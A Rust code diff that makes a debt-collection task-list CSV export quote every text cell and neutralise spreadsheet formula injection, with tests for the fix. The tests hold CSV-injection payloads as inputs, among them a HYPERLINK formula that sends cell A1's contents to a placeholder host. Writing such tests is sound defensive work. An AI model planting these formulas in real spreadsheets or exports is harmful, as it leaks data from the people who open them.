@@ -54,20 +54,54 @@ pub struct TaskRow {
     pub note: String,
 }
 
-/// The rows as CSV bytes, with the header line.
+/// The header line: plain names, which need no quotes.
+fn header() -> Vec<u8> {
+    let mut line = COLUMNS.join(",").into_bytes();
+    line.push(b'\n');
+    line
+}
+
+impl TaskRow {
+    /// The row with every text cell neutralised: debtor data (a name, a
+    /// phone number) must never run as a formula in the team's spreadsheet.
+    fn for_spreadsheet(&self) -> TaskRow {
+        let cell = |text: &String| crate::spreadsheet::neutralise(text).into_owned();
+        TaskRow {
+            date: self.date,
+            debtor: cell(&self.debtor),
+            debtor_name: cell(&self.debtor_name),
+            invoices: cell(&self.invoices),
+            step: cell(&self.step),
+            action: cell(&self.action),
+            target: cell(&self.target),
+            procedure: cell(&self.procedure),
+            amount_claimed: self.amount_claimed,
+            currency: cell(&self.currency),
+            phone: cell(&self.phone),
+            email: cell(&self.email),
+            address: cell(&self.address),
+            note: cell(&self.note),
+        }
+    }
+}
+
+/// The rows as CSV bytes, with the header line. Every text cell is quoted
+/// (so that a `;`, the list separator of a French spreadsheet, never splits
+/// one) and neutralised when it starts like a formula
+/// ([`crate::spreadsheet`]); amounts are bare numbers.
 pub fn csv(rows: &[TaskRow]) -> Result<Vec<u8>, Diagnostic> {
     let mut writer = csv::WriterBuilder::new()
         .has_headers(false)
-        .from_writer(Vec::new());
+        .quote_style(csv::QuoteStyle::NonNumeric)
+        .from_writer(header());
     let fail = |e: csv::Error| {
         Diagnostic::error(
             Code::WriteFailed,
             format!("cannot write the task list: {e}"),
         )
     };
-    writer.write_record(COLUMNS).map_err(fail)?;
     for row in rows {
-        writer.serialize(row).map_err(fail)?;
+        writer.serialize(row.for_spreadsheet()).map_err(fail)?;
     }
     writer.into_inner().map_err(|e| fail(e.into_error().into()))
 }
@@ -76,9 +110,8 @@ pub fn csv(rows: &[TaskRow]) -> Result<Vec<u8>, Diagnostic> {
 mod tests {
     use super::*;
 
-    #[test]
-    fn rows_are_quoted_as_needed() {
-        let row = TaskRow {
+    fn row() -> TaskRow {
+        TaskRow {
             date: "2026-11-23".parse().unwrap(),
             debtor: "ACME".into(),
             debtor_name: "ACME, Sàrl".into(),
@@ -89,16 +122,50 @@ mod tests {
             procedure: String::new(),
             amount_claimed: "1234.50".parse().unwrap(),
             currency: "EUR".into(),
-            phone: "+352 1".into(),
+            phone: "352 1".into(),
             email: "a@b.lu".into(),
             address: "1 rue X\nL-1000".into(),
             note: "dit \"rappeler\"".into(),
-        };
-        let text = String::from_utf8(csv(&[row]).unwrap()).unwrap();
+        }
+    }
+
+    #[test]
+    fn text_is_quoted_and_amounts_are_numbers() {
+        let text = String::from_utf8(csv(&[row()]).unwrap()).unwrap();
         assert_eq!(
             text,
             "date,debtor,debtor_name,invoices,step,action,target,procedure,amount_claimed,currency,phone,email,address,note\n\
-             2026-11-23,ACME,\"ACME, Sàrl\",F-1 F-2,lu-b2b.policy:22 call debtor,call,debtor,,1234.50,EUR,+352 1,a@b.lu,\"1 rue X\nL-1000\",\"dit \"\"rappeler\"\"\"\n"
+             \"2026-11-23\",\"ACME\",\"ACME, Sàrl\",\"F-1 F-2\",\"lu-b2b.policy:22 call debtor\",\"call\",\"debtor\",\"\",1234.50,\"EUR\",\"352 1\",\"a@b.lu\",\"1 rue X\nL-1000\",\"dit \"\"rappeler\"\"\"\n"
         );
+    }
+
+    /// Issue 17: debtor data went verbatim into the task list, so a phone
+    /// `=HYPERLINK(…)` became a live formula in the team's spreadsheet.
+    #[test]
+    fn cells_that_start_like_formulas_are_neutralised() {
+        let mut row = row();
+        row.phone = "=HYPERLINK(\"http://x\"&A1,\"click\")".into();
+        row.debtor = "+D1".into();
+        row.debtor_name = "=1+2".into();
+        row.invoices = "-F1 @F2".into();
+        row.address = "@home".into();
+        row.note = "\t=1".into();
+        row.email = "x;=1+2@y.lu".into();
+        row.amount_claimed = "-12.50".parse().unwrap();
+        let text = String::from_utf8(csv(&[row]).unwrap()).unwrap();
+        let mut reader = ::csv::Reader::from_reader(text.as_bytes());
+        let record = reader.records().next().unwrap().unwrap();
+        let cell =
+            |name: &str| record[COLUMNS.iter().position(|c| *c == name).unwrap()].to_string();
+        assert_eq!(cell("phone"), "'=HYPERLINK(\"http://x\"&A1,\"click\")");
+        assert_eq!(cell("debtor"), "'+D1");
+        assert_eq!(cell("debtor_name"), "'=1+2");
+        assert_eq!(cell("invoices"), "'-F1 @F2");
+        assert_eq!(cell("address"), "'@home");
+        assert_eq!(cell("note"), "'\t=1");
+        // A `;` (the list separator of a French spreadsheet) is inside quotes.
+        assert!(text.contains("\"x;=1+2@y.lu\""), "{text}");
+        // The amount stays a number.
+        assert!(text.contains(",-12.50,"), "{text}");
     }
 }
